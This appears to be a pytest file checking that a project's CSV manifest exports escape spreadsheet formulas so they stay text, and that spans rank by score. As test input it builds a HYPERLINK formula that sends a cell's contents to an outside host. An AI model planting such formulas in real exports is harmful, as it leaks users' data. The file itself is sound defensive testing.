"""Rows of the manifests as files: what a spreadsheet would run as a formula is text, and comes back as it was."""

import csv
import io

import pytest

from clipscout.transforms.core.queries import query_files
from clipscout.transforms.core.results import manifests


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_spreadsheet_runs_no_cell_of_ours(sign):
    formula = f'{sign}HYPERLINK("http://host/?"&A1)'
    written = manifests.kinetics_csv([(formula, "-8Appls4ZFg", "1.000", "2.000", formula, "", "", "")])
    ((label, video_id, *_, split),) = list(csv.reader(io.StringIO(written.decode())))[1:]
    assert (label, split) == (f"'{formula}", f"'{formula}")
    assert video_id == "-8Appls4ZFg"  # is none, and other tools read it
    (query,) = query_files.read(io.BufferedReader(io.BytesIO(written)), "spans.csv")
    assert (query.action, query.extra["split"]) == (formula, formula)


def test_spans_by_score_rank_over_all_videos_of_an_action():
    names = ("action", "score", "clip", "start_seconds", "end_seconds", "source", "title", "licence", "key", "id")
    row = lambda action, score: dict.fromkeys(names, "=1+1") | {"action": action, "score": score}  # noqa: E731
    rows = [manifests.by_score_row(row(*span)) for span in (("a", 0.9), ("a", 0.123456789), ("b", 0.5))]
    header, *found = csv.reader(io.StringIO(manifests.by_score_csv(rows).decode()))
    assert header == ["action_rank", *names]
    assert [cells[:3] for cells in found] == [["1", "a", "0.9"], ["2", "a", "0.123457"], ["1", "b", "0.5"]]
    assert found[0][3] == "'=1+1"
